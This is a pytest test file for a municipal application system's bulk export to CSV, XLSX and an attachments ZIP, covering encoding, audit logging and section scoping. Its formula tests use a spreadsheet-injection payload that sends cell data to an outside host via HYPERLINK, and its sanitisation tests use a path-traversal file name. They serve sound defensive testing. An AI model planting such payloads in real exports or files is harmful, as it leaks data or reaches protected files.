"""Bulk export (issue 4, item 5): stable columns per form version, CSV UTF-8 with BOM and
CRLF, CP932 with every unencodable character reported and nothing written, XLSX readable
by openpyxl, a CSV LibreOffice converts, the attachments ZIP, the audit record, and staff
of another section exporting nothing of ours.

Applications are made through the real resident services (start_draft / save_step /
submit) on a form published with forms.services.publish; staff sign in through the staff
login page with password and TOTP code (or the conftest's OTP-verified client)."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import zipfile
from urllib.parse import quote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from tenohira.applications import services
from tenohira.applications.models import Submission
from tenohira.audit.models import AuditRecord
from tenohira.audit.services import verify
from tenohira.backoffice import exports, selectors
from tenohira.catalog.models import Procedure
from tenohira.core.fiscal import local
from tenohira.core.tabular import cp932_missing
from tenohira.forms.services import publish

URL = "/staff/export/"
PASSWORD = "kuyakusho-Passw0rd-2026"  # conftest.STAFF_PASSWORD (conftest cannot be imported)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"

GRADES = [{"value": "1", "label": "1年生"}, {"value": "2", "label": "2年生"}]
NEEDS = [{"value": "ride", "label": "送迎"}, {"value": "meal", "label": "給食"}, {"value": "late", "label": "延長"}]

# Every kind of column: a name with furigana, an address, a repeating group (max 2) of a
# name and a choice, a multichoice, yes/no, a number, a free text, a file and a consent.
EXPORT_SCHEMA = {
    "title": "書き出しテスト申請",
    "email_field": "email",
    "steps": [
        {"key": "applicant", "title": "申請する方", "fields": [
            {"key": "applicant", "type": "name", "label": "氏名", "required": True},
            {"key": "address", "type": "address", "label": "住所", "required": True},
            {"key": "email", "type": "email", "label": "メールアドレス", "required": True},
            {"key": "phone", "type": "phone", "label": "電話番号"},
            {"key": "birth", "type": "date", "label": "生年月日"},
        ]},
        {"key": "children", "title": "お子さん", "fields": [
            {"key": "children", "type": "group", "label": "お子さん", "row_label": "お子さん", "min": 1, "max": 2,
             "fields": [
                 {"key": "name", "type": "name", "label": "氏名", "required": True},
                 {"key": "grade", "type": "choice", "label": "学年", "choices": GRADES},
             ]},
        ]},
        {"key": "detail", "title": "内容", "fields": [
            {"key": "guide", "type": "guidance", "text": "分かる範囲で書いてください。"},
            {"key": "needs", "type": "multichoice", "label": "希望する支援", "choices": NEEDS},
            {"key": "working", "type": "yesno", "label": "就労していますか", "required": True},
            {"key": "copies", "type": "number", "label": "通数", "min": 1, "max": 10},
            {"key": "memo", "type": "textarea", "label": "備考"},
            {"key": "document", "type": "file", "label": "添付書類", "accept": ["pdf", "jpeg"]},
            {"key": "consent", "type": "consent", "label": "内容に誤りはありません", "required": True},
        ]},
    ],
}

NAME_PARTS = ["姓", "名", "セイ", "メイ"]
EXPECTED_HEADER = [
    "受付番号", "手続ID", "手続名", "申請日時", "申請経路", "状態", "版", "本人確認書類",
    *(f"氏名_{p}" for p in NAME_PARTS),
    "住所_郵便番号", "住所_都道府県", "住所_市区町村", "住所_町名", "住所_番地", "住所_建物名・部屋番号",
    "メールアドレス", "電話番号", "生年月日",
    *(f"お子さん1_氏名_{p}" for p in NAME_PARTS), "お子さん1_学年",
    *(f"お子さん2_氏名_{p}" for p in NAME_PARTS), "お子さん2_学年",
    "希望する支援", "就労していますか", "通数", "備考", "添付書類", "内容に誤りはありません",
]


# --- helpers ------------------------------------------------------------------------------


@pytest.fixture
def export_form(staff):
    """Procedure EXP of the handler's section with EXPORT_SCHEMA published (第1版)."""
    procedure = Procedure.objects.create(code="EXP", section=staff.section, name="放課後クラブ書き出し確認")
    version, _created = publish(procedure, EXPORT_SCHEMA)
    return version


def apply(version, *, family="山田", given="花子", family_kana="ヤマダ", children=(("山田", "一郎", "1"),), memo="",
          attachment: tuple[str, bytes] | None = None, extra: dict | None = None) -> Submission:
    """Fill every step of `version` through the resident services and submit it."""
    schema = version.parsed()
    draft, _secret = services.start_draft(version)
    steps = {
        "applicant": {
            "applicant__family": [family], "applicant__given": [given],
            "applicant__family_kana": [family_kana], "applicant__given_kana": ["はなこ"],
            "address__postal_code": ["９６３－８６０１"], "address__prefecture": ["福島県"],
            "address__city": ["郡山市"], "address__town": ["朝日"], "address__street": ["１－２３－７"],
            "address__building": [""], "email": ["hanako@example.jp"], "phone": ["090-1234-5678"],
            "birth": ["昭和60年4月1日"],
        },
        "children": {"children-count": [str(len(children))]},
        "detail": {"needs": ["ride", "late"], "working": ["yes"], "copies": ["2"], "memo": [memo], "consent": ["yes"]},
    }
    for index, (child_family, child_given, grade) in enumerate(children):
        steps["children"].update({
            f"children-{index}-name__family": [child_family], f"children-{index}-name__given": [child_given],
            f"children-{index}-name__family_kana": ["ヤマダ"], f"children-{index}-name__given_kana": ["イチロウ"],
            f"children-{index}-grade": [grade],
        })
    for step_key, raw in (extra or {}).items():
        steps.setdefault(step_key, {}).update(raw)
    for step_key, raw in steps.items():
        uploads = {}
        if step_key == "detail" and attachment is not None:
            uploads = {"document": [SimpleUploadedFile(attachment[0], attachment[1], content_type="application/pdf")]}
        if schema.step(step_key) is None:
            continue
        _run, problems = services.save_step(draft, schema.step(step_key), raw, uploads, [])
        assert not problems, problems
    submission, _secret = services.submit(draft)
    return submission


def sign_in(user, totp) -> Client:
    """Through the staff login page: user name, password and the authenticator's code."""
    client = Client(HTTP_HOST="localhost")
    response = client.post("/staff/login/", {"username": user.username, "password": PASSWORD, "code": totp(user)})
    assert response.status_code == 302, response.content.decode()[:2000]
    return client


def download(client: Client, fmt: str, **filters):
    return client.post(URL, {"format": fmt, **filters})


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(data: bytes, encoding: str = "utf-8-sig") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


# --- columns ------------------------------------------------------------------------------


def test_columns_follow_the_schema_and_do_not_depend_on_the_data(export_form, staff, totp):
    assert exports.header_for(export_form) == EXPECTED_HEADER
    one_child = apply(export_form, family="山田", children=(("山田", "一郎", "1"),))
    two_children = apply(export_form, family="佐藤", children=(("佐藤", "一郎", "1"), ("佐藤", "二郎", "2")),
                         memo="送迎は\n水曜だけ")
    client = sign_in(staff.handler, totp)

    response = download(client, "csv-utf8", procedure=export_form.definition.procedure_id)
    assert response.status_code == 200
    rows = csv_rows(body(response))
    assert rows[0] == EXPECTED_HEADER
    by_receipt = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert set(by_receipt) == {one_child.receipt_number, two_children.receipt_number}
    first = by_receipt[one_child.receipt_number]
    assert first["手続ID"] == "EXP" and first["手続名"] == "放課後クラブ書き出し確認"
    assert first["申請日時"] == local(one_child.submitted_at).strftime("%Y-%m-%d %H:%M")
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", first["申請日時"])
    assert (first["申請経路"], first["状態"], first["版"], first["本人確認書類"]) == ("オンライン", "受付", "1", "")
    assert [first[f"氏名_{p}"] for p in NAME_PARTS] == ["山田", "花子", "ヤマダ", "ハナコ"]
    assert first["住所_郵便番号"] == "963-8601" and first["住所_番地"] == "1-23-7" and first["住所_建物名・部屋番号"] == ""
    assert (first["電話番号"], first["生年月日"]) == ("09012345678", "1985-04-01")
    assert (first["お子さん1_氏名_名"], first["お子さん1_学年"]) == ("一郎", "1年生")
    assert first["お子さん2_氏名_姓"] == "" and first["お子さん2_学年"] == ""  # no second child: empty, same columns
    assert (first["希望する支援"], first["就労していますか"], first["通数"]) == ("送迎、延長", "はい", "2")
    assert first["内容に誤りはありません"] == "同意する"
    second = by_receipt[two_children.receipt_number]
    assert (second["お子さん2_氏名_名"], second["お子さん2_学年"]) == ("二郎", "2年生")
    assert second["備考"] == "送迎は\n水曜だけ"  # a line break inside a quoted cell survives


def test_duplicate_labels_get_their_answer_path_and_stay_stable(staff):
    schema = {"title": "重複", "steps": [{"key": "s", "title": "s", "fields": [
        {"key": "state", "type": "text", "label": "状態"},
        {"key": "note_a", "type": "text", "label": "メモ"},
        {"key": "note_b", "type": "text", "label": "メモ"},
    ]}]}
    procedure = Procedure.objects.create(code="DUP", section=staff.section, name="重複ラベル")
    version, _ = publish(procedure, schema)
    assert exports.header_for(version)[8:] == ["状態（state）", "メモ（note_a）", "メモ（note_b）"]


def test_several_form_versions_export_one_file_per_version(export_form, staff, totp):
    old = apply(export_form)
    changed = {**EXPORT_SCHEMA, "steps": [
        *EXPORT_SCHEMA["steps"][:2],
        {**EXPORT_SCHEMA["steps"][2], "fields": [
            *EXPORT_SCHEMA["steps"][2]["fields"], {"key": "contact_time", "type": "text", "label": "連絡のつく時間帯"},
        ]},
    ]}
    second_version, created = publish(export_form.definition.procedure, changed)
    assert created and second_version.number == 2
    new = apply(second_version, extra={"detail": {"contact_time": ["午前中"]}})
    client = sign_in(staff.handler, totp)

    response = download(client, "csv-utf8", procedure=export_form.definition.procedure_id)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(body(response)))
    assert archive.testzip() is None
    names = archive.namelist()
    assert names == ["EXP_放課後クラブ書き出し確認_第1版.csv", "EXP_放課後クラブ書き出し確認_第2版.csv"]
    first, second = (csv_rows(archive.read(name)) for name in names)
    assert first[0] == EXPECTED_HEADER and [r[0] for r in first[1:]] == [old.receipt_number]
    assert second[0] == EXPECTED_HEADER + ["連絡のつく時間帯"]
    assert [r[0] for r in second[1:]] == [new.receipt_number] and second[1][-1] == "午前中" and second[1][6] == "2"

    workbook = load_workbook(io.BytesIO(body(download(client, "xlsx", procedure=export_form.definition.procedure_id))))
    assert workbook.sheetnames == ["EXP_第1版", "EXP_第2版"]
    assert [c.value for c in workbook["EXP_第2版"][1]] == EXPECTED_HEADER + ["連絡のつく時間帯"]


# --- CSV UTF-8 ----------------------------------------------------------------------------


def test_utf8_csv_has_a_bom_crlf_and_a_japanese_file_name(export_form, staff, totp):
    apply(export_form, memo="一行目\n二行目")
    client = sign_in(staff.handler, totp)
    response = download(client, "csv-utf8")
    assert response.status_code == 200
    assert response.streaming  # streamed, never built whole in memory
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="tenohira-export-')
    assert "filename*=UTF-8''" + quote("申請データ_放課後クラブ書き出し確認_第1版_") in disposition
    data = body(response)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 2  # header and one row; the LF inside 備考 is quoted, not a row end
    assert b"\r\n" in data and data.endswith(b"\r\n")
    assert data.replace(b"\r\n", b"").count(b"\n") == 1


# --- CSV CP932 ----------------------------------------------------------------------------


def test_cp932_reports_every_unencodable_character_and_writes_nothing(export_form, staff, totp):
    yoshida = apply(export_form, family="𠮷田", given="髙子", memo="10時〜12時")
    plain = apply(export_form, family="髙橋", given="次郎")
    client = sign_in(staff.handler, totp)

    response = download(client, "csv-cp932")
    assert response.status_code == 422
    assert response["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in response
    page = response.content.decode()
    assert "CP932（Shift_JIS）で表せない文字が 1個あります" in page
    assert yoshida.receipt_number in page and "U+20BB7" in page
    assert "U+301C" not in page  # 〜 has a CP932 form (～): converted, not reported
    assert plain.receipt_number not in page
    assert "U+9AD9" not in page  # 髙 is in CP932 (IBM extension): not reported
    assert 'value="csv-utf8"' in page and 'value="cp932-report"' in page  # UTF-8 offered instead

    report = download(client, "cp932-report")
    assert report.status_code == 200 and report["Content-Type"] == "text/csv; charset=utf-8"
    assert "filename*=UTF-8''" in report["Content-Disposition"]
    assert csv_rows(body(report)) == [
        ["受付番号", "列", "文字", "符号位置"],
        [yoshida.receipt_number, "氏名_姓", "𠮷", "U+20BB7"],
    ]

    # The same check straight on the module: the target file stays empty.
    items = selectors.queue(staff.handler, section_id=staff.section.pk)
    with exports.temporary_file() as target:
        check = exports.cp932_to_file(items, exports.plan(items), target)
        assert target.tell() == 0
    assert check.total == 1
    assert [(p.receipt_number, p.column, p.char, p.code) for p in check.shown] == [
        (yoshida.receipt_number, "氏名_姓", "𠮷", "U+20BB7"),
    ]

    refused = AuditRecord.objects.filter(action="export").order_by("id").first()
    assert refused.detail["refused"] is True and refused.detail["rows"] == 0 and refused.detail["unencodable"] == 1


def test_cp932_round_trips_characters_it_holds(export_form, staff, totp):
    submission = apply(export_form, family="髙橋", given="﨑子", memo="①～③ ㈱テスト －")
    client = sign_in(staff.handler, totp)
    response = download(client, "csv-cp932")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=Windows-31J"
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    data = body(response)
    assert not data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")
    assert "髙橋".encode("cp932") in data
    rows = csv_rows(data, "cp932")
    assert rows[0] == EXPECTED_HEADER
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["受付番号"], row["氏名_姓"], row["氏名_名"], row["備考"]) == (
        submission.receipt_number, "髙橋", "﨑子", "①～③ ㈱テスト －"
    )


def test_cp932_converts_what_japanese_keyboards_and_macs_type_to_the_windows_forms(export_form, staff, totp):
    """〜 − ‖ ¢ £ ¬ — typed on a Mac or pasted from the web have a CP932 form (～ － ∥ ￠
    ￡ ￢ ―): the export writes that form instead of refusing the file."""
    apply(export_form, family="髙橋", memo="8:30〜17:15 −3℃ ‖ ¢1 £2 ¬ —\u00a0¥500")
    client = sign_in(staff.handler, totp)
    response = download(client, "csv-cp932")
    assert response.status_code == 200, response.content.decode()[:3000]
    row = dict(zip(EXPECTED_HEADER, csv_rows(body(response), "cp932")[1], strict=True))
    assert row["備考"] == "8:30～17:15 －3℃ ∥ ￠1 ￡2 ￢ ― ￥500"
    assert row["氏名_姓"] == "髙橋"


def test_only_what_has_no_cp932_form_is_reported():
    assert cp932_missing("𠮷野家の髙橋") == ["𠮷"]
    assert cp932_missing("1〜2 −3 ‖ — ¢£¬") == []
    assert cp932_missing("ASCII only, 半角ｶﾅ, 全角～－, ①㈱﨑") == []
    assert cp932_missing("絵文字😀と𠮷") == ["😀", "𠮷"]


# --- XLSX ---------------------------------------------------------------------------------


def test_xlsx_opens_with_openpyxl_with_the_expected_columns(export_form, staff, totp):
    submission = apply(export_form, family="𠮷田", memo="=HYPERLINK(\"http://example.com\")")
    client = sign_in(staff.handler, totp)
    response = download(client, "xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "filename*=UTF-8''" in response["Content-Disposition"] and ".xlsx" in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(body(response)))
    assert workbook.sheetnames == ["EXP_第1版"]
    sheet = workbook["EXP_第1版"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == EXPECTED_HEADER
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["受付番号"], row["氏名_姓"], row["住所_郵便番号"], row["電話番号"]) == (
        submission.receipt_number, "𠮷田", "963-8601", "09012345678"  # leading zero kept: text
    )
    memo_cell = sheet.cell(row=2, column=EXPECTED_HEADER.index("備考") + 1)
    assert memo_cell.data_type == "s" and memo_cell.value == '=HYPERLINK("http://example.com")'  # text, not a formula


# --- LibreOffice --------------------------------------------------------------------------


def test_libreoffice_converts_the_csv_without_error(export_form, staff, totp, tmp_path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is required: apt-get install libreoffice-calc-nogui"
    submission = apply(export_form, family="髙橋", memo="改行を\n含む")
    client = sign_in(staff.handler, totp)
    source = tmp_path / "export.csv"
    source.write_bytes(body(download(client, "csv-utf8")))
    home = tmp_path / "home"
    home.mkdir()

    def convert(out, *infilter):
        result = subprocess.run(
            [soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{home}/lo", *infilter,
             "--convert-to", "xlsx", "--outdir", str(out), str(source)],
            capture_output=True, text=True, timeout=180, env={**os.environ, "HOME": str(home)},
        )
        assert result.returncode == 0, result.stderr
        converted = out / "export.xlsx"
        assert converted.exists(), (result.stdout, result.stderr)
        return list(load_workbook(converted).active.iter_rows(values_only=True))

    # The plain command converts without error ...
    rows = convert(tmp_path / "plain")
    assert len(rows) == 2 and len(rows[0]) == len(EXPECTED_HEADER)  # header and one row (its LF stays inside)
    # ... and told the file is UTF-8 (headless LibreOffice does not look at the BOM), every
    # Japanese header and value comes through intact.
    rows = convert(tmp_path / "utf8", "--infilter=CSV:44,34,76,1")
    assert list(rows[0]) == EXPECTED_HEADER
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["受付番号"], row["氏名_姓"], row["備考"]) == (submission.receipt_number, "髙橋", "改行を\n含む")


# --- attachments ZIP ----------------------------------------------------------------------


def test_attachments_zip_holds_each_file_under_its_receipt_number(export_form, staff, totp):
    first = apply(export_form, attachment=("就労証明書.pdf", PDF))
    second = apply(export_form, attachment=("report:2024?.pdf", PDF + b"%second\n"))
    without = apply(export_form)
    client = sign_in(staff.handler, totp)

    response = download(client, "attachments")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "application/zip"
    assert "filename*=UTF-8''" + quote("添付ファイル_") in response["Content-Disposition"]
    archive = zipfile.ZipFile(io.BytesIO(body(response)))
    assert archive.testzip() is None
    assert archive.namelist() == [
        f"{first.receipt_number}/就労証明書.pdf",
        f"{second.receipt_number}/report_2024_.pdf",
        exports.MANIFEST_NAME,
    ]
    assert archive.read(f"{first.receipt_number}/就労証明書.pdf") == PDF
    assert archive.read(f"{second.receipt_number}/report_2024_.pdf") == PDF + b"%second\n"
    manifest = csv_rows(archive.read(exports.MANIFEST_NAME))
    assert manifest[0][:4] == ["受付番号", "項目", "ZIP内のファイル名", "元のファイル名"]
    assert [(r[0], r[3], r[6]) for r in manifest[1:]] == [
        (first.receipt_number, "就労証明書.pdf", "正常"), (second.receipt_number, "report:2024?.pdf", "正常"),
    ]
    assert without.receipt_number not in " ".join(archive.namelist())
    # The CSV names the files of a submission in the file column.
    rows = {r[0]: dict(zip(EXPECTED_HEADER, r, strict=True)) for r in csv_rows(body(download(client, "csv-utf8")))[1:]}
    assert rows[first.receipt_number]["添付書類"] == "就労証明書.pdf" and rows[without.receipt_number]["添付書類"] == ""


def test_zip_member_names_are_sanitised():
    assert exports.safe_file_name("../../etc/passwd") == "passwd"
    assert exports.safe_file_name("C:\\Users\\a\\写真.jpg") == "写真.jpg"
    assert exports.safe_file_name("CON.pdf") == "_CON.pdf"
    assert exports.safe_file_name('a<b>c:"d"|e?f*.pdf') == "a_b_c__d__e_f_.pdf"
    assert exports.safe_file_name("...") == "file"
    assert exports.safe_file_name("x" * 300 + ".pdf") == "x" * 116 + ".pdf"
    taken: set[str] = set()
    assert [exports._unique_in(taken, n) for n in ("a.pdf", "A.pdf", "a.pdf")] == ["a.pdf", "A (2).pdf", "a (3).pdf"]


# --- audit, preview, scoping ----------------------------------------------------------------


def test_every_export_writes_an_audit_record_with_the_row_count(export_form, staff, totp):
    apply(export_form)
    apply(export_form, attachment=("a.pdf", PDF))
    client = sign_in(staff.handler, totp)
    before = AuditRecord.objects.filter(action="export").count()
    for fmt in ("csv-utf8", "csv-cp932", "xlsx", "attachments"):
        response = download(client, fmt, status="all", q="")
        assert response.status_code == 200, fmt
        body(response)
    records = list(AuditRecord.objects.filter(action="export").order_by("id"))[before:]
    assert [r.detail["format"] for r in records] == ["csv-utf8", "csv-cp932", "xlsx", "attachments"]
    for entry in records:
        assert entry.actor == staff.handler.username and entry.ip == "127.0.0.1"
        assert entry.detail["rows"] == 2
        assert entry.detail["filters"] == {"section_id": staff.section.pk}
        assert entry.detail["versions"] == ["EXP 第1版"]
    assert records[-1].detail["files"] == 1
    assert verify().ok


def test_audit_record_names_the_filters(export_form, staff, totp):
    kept = apply(export_form, family="山田")
    apply(export_form, family="佐藤", family_kana="サトウ")
    client = sign_in(staff.handler, totp)
    response = download(client, "csv-utf8", q="やまだ", date_from="2000-01-01", status="received")
    rows = csv_rows(body(response))
    assert [r[0] for r in rows[1:]] == [kept.receipt_number]
    entry = AuditRecord.objects.filter(action="export").latest("id")
    assert entry.detail["rows"] == 1
    # A search text may be a resident's name: the record says one was used, never what it was.
    assert entry.detail["filters"] == {
        "section_id": staff.section.pk, "status": "received", "date_from": "2000-01-01", "text": "（検索語あり）",
    }
    assert "やまだ" not in str(entry.detail)


def test_preview_shows_the_row_count_per_version_and_the_columns(export_form, staff, totp):
    apply(export_form)
    apply(export_form)
    client = sign_in(staff.handler, totp)
    response = client.get(URL)
    assert response.status_code == 200
    page = response.content.decode()
    assert "<strong>2件</strong>" in page
    assert "放課後クラブ書き出し確認" in page and "第1版" in page and f"{len(EXPECTED_HEADER)}列" in page
    assert "お子さん2_氏名_メイ" in page
    for value in exports.FORMATS:
        assert f'value="{value}"' in page
    assert AuditRecord.objects.filter(action="export").count() == 0  # a preview exports nothing


def test_invalid_filter_or_format_exports_nothing(export_form, staff, totp):
    apply(export_form)
    client = sign_in(staff.handler, totp)
    assert download(client, "pdf").status_code == 400
    assert download(client, "csv-utf8", date_from="not-a-date").status_code == 400
    assert download(client, "csv-utf8", q="存在しない名前").status_code == 400
    assert AuditRecord.objects.filter(action="export").count() == 0


def test_staff_of_another_section_export_nothing_of_ours(export_form, staff, staff_client, make_submission):
    ours = apply(export_form, family="𠮷田")
    ours_with_file = make_submission(attachment=("ours.pdf", PDF))
    theirs = make_submission(staff.other_procedure, family="保育")
    client = staff_client(staff.other_handler)

    # Naming our section in the filters does not widen what they see.
    for filters in ({}, {"section": staff.section.pk}, {"section": staff.section.pk, "procedure": staff.procedure.pk}):
        data = body(download(client, "csv-utf8", status="all", **filters))
        text = data.decode("utf-8-sig") if data.startswith(b"\xef\xbb\xbf") else data.decode("utf-8", "replace")
        assert ours.receipt_number not in text and ours_with_file.receipt_number not in text
    rows = csv_rows(body(download(client, "csv-utf8", status="all")))
    assert [r[0] for r in rows[1:]] == [theirs.receipt_number]
    cp932 = download(client, "csv-cp932", section=staff.section.pk)
    assert cp932.status_code == 200 and ours.receipt_number.encode() not in body(cp932)  # 𠮷田 is not theirs to see
    archive = zipfile.ZipFile(io.BytesIO(body(download(client, "attachments", section=staff.section.pk))))
    assert archive.namelist() == [exports.MANIFEST_NAME]
    workbook = load_workbook(io.BytesIO(body(download(client, "xlsx", section=staff.section.pk))))
    values = [c for row in workbook.active.iter_rows(values_only=True) for c in row]
    assert ours.receipt_number not in values and theirs.receipt_number in values
    page = client.get(URL, {"section": staff.section.pk}).content.decode()
    assert "放課後クラブ書き出し確認" not in page and staff.section.name not in page


def test_roles_without_a_section_and_strangers_cannot_export(export_form, staff, staff_client):
    apply(export_form)
    for user in (staff.auditor, staff.dx_admin, staff.no_role):
        client = staff_client(user)
        assert client.get(URL).status_code == 403
        assert download(client, "csv-utf8").status_code == 403
    anonymous = Client(HTTP_HOST="localhost")
    response = download(anonymous, "csv-utf8")
    assert response.status_code == 302 and response["Location"].startswith("/staff/login/")
    assert AuditRecord.objects.filter(action="export").count() == 0


# --- formulas: CSV meant for Excel ----------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.com/?q="&A1,"詳しくはこちら")'
FORMULA_SCHEMA = {"title": "数式の確認", "steps": [{"key": "s", "title": "内容", "fields": [
    {"key": "memo", "type": "textarea", "label": "備考"},
    {"key": "phone_memo", "type": "text", "label": "連絡先メモ"},
    {"key": "balance", "type": "number", "label": "差額"},
    {"key": "document", "type": "file", "label": "添付書類", "accept": ["pdf"]},
]}]}


@pytest.fixture
def formula_form(staff):
    procedure = Procedure.objects.create(code="FML", section=staff.section, name="数式の確認")
    version, _created = publish(procedure, FORMULA_SCHEMA)
    return version


def apply_formula(version, *, memo=FORMULA, phone_memo="+81 90-1234-5678", balance="-3",
                  file_name="=HYPERLINK(x).pdf") -> Submission:
    draft, _secret = services.start_draft(version)
    uploads = {"document": [SimpleUploadedFile(file_name, PDF, content_type="application/pdf")]} if file_name else {}
    _run, problems = services.save_step(
        draft, version.parsed().step("s"),
        {"memo": [memo], "phone_memo": [phone_memo], "balance": [balance]}, uploads, [],
    )
    assert not problems, problems
    return services.submit(draft)[0]


def by_header(rows: list[list[str]]) -> dict[str, str]:
    return dict(zip(rows[0], rows[1], strict=True))


@pytest.mark.parametrize(("fmt", "encoding"), [("csv-utf8", "utf-8-sig"), ("csv-cp932", "cp932")])
def test_csv_for_excel_neutralises_formulas_but_not_negative_numbers(formula_form, staff, totp, fmt, encoding):
    apply_formula(formula_form)
    client = sign_in(staff.handler, totp)
    response = download(client, fmt)
    assert response.status_code == 200, response.content[:2000]
    row = by_header(csv_rows(body(response), encoding))
    assert row["備考"] == "'" + FORMULA
    assert row["連絡先メモ"] == "'+81 90-1234-5678"
    assert row["差額"] == "-3"  # a number column: a negative number stays a number
    assert row["添付書類"] == "'=HYPERLINK(x).pdf"
    assert row["版"] == "1" and row["受付番号"].startswith("20")


def test_raw_export_for_business_systems_keeps_every_cell_as_typed_and_is_audited(formula_form, staff, totp):
    apply_formula(formula_form, memo="-5 (前回より減)")
    client = sign_in(staff.handler, totp)
    row = by_header(csv_rows(body(download(client, "csv-utf8", raw="1"))))
    assert (row["備考"], row["連絡先メモ"], row["差額"]) == ("-5 (前回より減)", "+81 90-1234-5678", "-3")
    assert AuditRecord.objects.filter(action="export").latest("id").detail["raw"] is True
    row = by_header(csv_rows(body(download(client, "csv-cp932", raw="1")), "cp932"))
    assert row["備考"] == "-5 (前回より減)"
    default = by_header(csv_rows(body(download(client, "csv-utf8"))))
    assert default["備考"] == "'-5 (前回より減)"
    assert "raw" not in AuditRecord.objects.filter(action="export").latest("id").detail
    page = client.get(URL).content.decode()
    assert 'name="raw" value="1"' in page and "業務システムへの取り込み用" in page


def test_the_attachments_manifest_neutralises_formulas_too(formula_form, staff, totp):
    submission = apply_formula(formula_form)
    client = sign_in(staff.handler, totp)
    archive = zipfile.ZipFile(io.BytesIO(body(download(client, "attachments"))))
    assert f"{submission.receipt_number}/=HYPERLINK(x).pdf" in archive.namelist()  # a file name, not a cell
    manifest = csv_rows(archive.read(exports.MANIFEST_NAME))
    row = dict(zip(manifest[0], manifest[1], strict=True))
    assert row["元のファイル名"] == "'=HYPERLINK(x).pdf"
    assert row["ZIP内のファイル名"] == f"{submission.receipt_number}/=HYPERLINK(x).pdf"  # starts with the number
    assert row["サイズ（バイト）"] == str(len(PDF))
    raw = zipfile.ZipFile(io.BytesIO(body(download(client, "attachments", raw="1"))))
    assert csv_rows(raw.read(exports.MANIFEST_NAME))[1][3] == "=HYPERLINK(x).pdf"


def test_xlsx_stores_formula_looking_answers_as_text_cells(formula_form, staff, totp):
    apply_formula(formula_form)
    client = sign_in(staff.handler, totp)
    sheet = load_workbook(io.BytesIO(body(download(client, "xlsx")))).active
    header = [c.value for c in sheet[1]]
    memo = sheet.cell(row=2, column=header.index("備考") + 1)
    assert memo.data_type == "s" and memo.value == FORMULA  # text: no ' needed in a text cell
    for name in ("連絡先メモ", "添付書類"):
        cell = sheet.cell(row=2, column=header.index(name) + 1)
        assert cell.data_type == "s" and cell.value[0] in "+="


def test_libreoffice_reads_the_neutralised_cell_as_text_and_would_run_the_raw_one(formula_form, staff, totp, tmp_path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is required: apt-get install libreoffice-calc-nogui"
    apply_formula(formula_form)
    client = sign_in(staff.handler, totp)
    home = tmp_path / "home"
    home.mkdir()

    def opened(name: str, data: bytes):
        source = tmp_path / f"{name}.csv"
        source.write_bytes(data)
        result = subprocess.run(
            [soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{home}/lo",
             "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path / name), str(source)],
            capture_output=True, text=True, timeout=180, env={**os.environ, "HOME": str(home)},
        )
        assert result.returncode == 0, result.stderr
        sheet = load_workbook(tmp_path / name / f"{name}.xlsx").active
        header = [c.value for c in sheet[1]]
        return sheet.cell(row=2, column=header.index("備考") + 1)

    safe = opened("safe", body(download(client, "csv-utf8")))
    assert safe.data_type == "s" and safe.value == "'" + FORMULA
    # The same answer exported raw is what a spreadsheet would run: the test can tell.
    unsafe = opened("raw", body(download(client, "csv-utf8", raw="1")))
    assert unsafe.data_type == "f"
